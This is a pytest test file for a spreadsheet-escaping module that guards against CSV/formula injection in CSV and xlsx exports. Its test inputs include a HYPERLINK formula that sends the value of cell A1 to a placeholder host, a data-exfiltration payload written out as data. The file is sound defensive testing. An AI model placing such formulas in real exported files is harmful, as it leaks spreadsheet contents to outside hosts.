"""Spreadsheet cells: text starting a formula gets a single quote in front (OWASP, CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ospod_desktop.core.spreadsheet import FORMULA_TRIGGERS, escape_cell, escape_row


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+2", "'=1+2"),
    ("+420 123 456 789", "'+420 123 456 789"),
    ("-Ali", "'-Ali"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ('=HYPERLINK("http://example.invalid/?"&A1,"x")', '\'=HYPERLINK("http://example.invalid/?"&A1,"x")'),
    ("=", "'="),
    # a number given as text is text: escaped like any other text (numbers stay numbers, below)
    ("-5", "'-5"),
    ("+5", "'+5"),
])
def test_text_starting_a_formula_is_escaped(value, expected):
    assert escape_cell(value) == expected


@pytest.mark.parametrize("value", [
    "", "Oleksandr", "Ševčenko", "Олександр", "KRPA-12345/ČJ-2026", "a=b", "x@y.cz", "1-2", " =1+2", "'=1+2",
    "Praha – hlavní nádraží", "\n=1+2",
])
def test_other_text_is_unchanged(value):
    assert escape_cell(value) is value


@pytest.mark.parametrize("value", [None, 0, -5, 5, -2.5, True, False, date(2010, 5, 1)])
def test_values_that_are_not_text_are_unchanged(value):
    assert escape_cell(value) is value


def test_every_trigger_is_covered():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
    for ch in FORMULA_TRIGGERS:
        assert escape_cell(ch + "x") == "'" + ch + "x"


def test_escape_row_keeps_the_shape():
    assert escape_row(("=1+2", "Ali", None, -5, "-5")) == ["'=1+2", "Ali", None, -5, "'-5"]
    assert escape_row(iter(["@x"])) == ["'@x"]
    record = {"reference": "=1+2", "given_name": "@SUM(A1)", "age": 15, "=key": "ok"}
    assert escape_row(record) == {"reference": "'=1+2", "given_name": "'@SUM(A1)", "age": 15, "=key": "ok"}
    assert list(escape_row(record)) == list(record)  # keys (column names) and their order unchanged


def test_a_csv_cell_starts_with_the_quote():
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=("reference", "given_name", "age"))
    writer.writeheader()
    writer.writerow(escape_row({"reference": "=1+2", "given_name": "@SUM(A1)", "age": -5}))
    assert out.getvalue() == "reference,given_name,age\r\n'=1+2,'@SUM(A1),-5\r\n"


def test_an_xlsx_row_has_no_formula_cell(tmp_path):
    from openpyxl import Workbook, load_workbook

    raw = ["=1+2", "@SUM(A1)", "-5", -5, 2010, None, "Ali"]
    assert Workbook().active.cell(1, 1, raw[0]).data_type == "f"  # unescaped, openpyxl writes a live formula
    book = Workbook()
    book.active.append(escape_row(raw))
    book.save(tmp_path / "list.xlsx")
    cells = next(load_workbook(tmp_path / "list.xlsx").active.iter_rows())
    assert [c.value for c in cells] == ["'=1+2", "'@SUM(A1)", "'-5", -5, 2010, None, "Ali"]
    assert [c.data_type for c in cells] == ["s", "s", "s", "n", "n", "n", "s"]


@given(st.text())
def test_escaped_text_never_starts_a_formula_and_only_gains_the_quote(value):
    escaped = escape_cell(value)
    assert not escaped.startswith(FORMULA_TRIGGERS)
    assert escaped in (value, "'" + value)
    assert (escaped != value) == value.startswith(FORMULA_TRIGGERS)
